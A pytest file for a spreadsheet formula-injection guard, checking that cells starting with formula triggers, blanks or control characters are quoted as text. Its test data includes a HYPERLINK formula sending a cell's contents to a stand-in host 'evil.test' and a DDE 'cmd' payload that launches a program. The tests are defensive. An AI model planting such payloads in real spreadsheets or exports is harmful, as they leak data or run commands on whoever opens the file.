"""The formula guard: a cell a spreadsheet would run is written as text."""

import pytest

from lib.spreadsheets import safe_cell

TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
# Characters a spreadsheet skips or treats as the start of a formula too.
CONTROLS = ["\t", "\r", "\n", "\x00", "\x0b", "\x1f"]
BLANKS = ["", " ", "  ", "\u00a0", "\u3000", " \t"]


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_it_guards_a_formula_behind_any_blanks(trigger, blank):
    value = f'{blank}{trigger}HYPERLINK("http://evil.test?"&A1)'
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("control", CONTROLS)
def test_it_guards_a_cell_that_starts_with_a_control_character(control):
    assert safe_cell(f"{control}cmd|' /C calc'!A0") == f"'{control}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value", ["", "Nightly sales", "Europe/Paris", "0 * * * *", "a=b", "x-1", "'"]
)
def test_it_leaves_plain_text_alone(value):
    assert safe_cell(value) == value
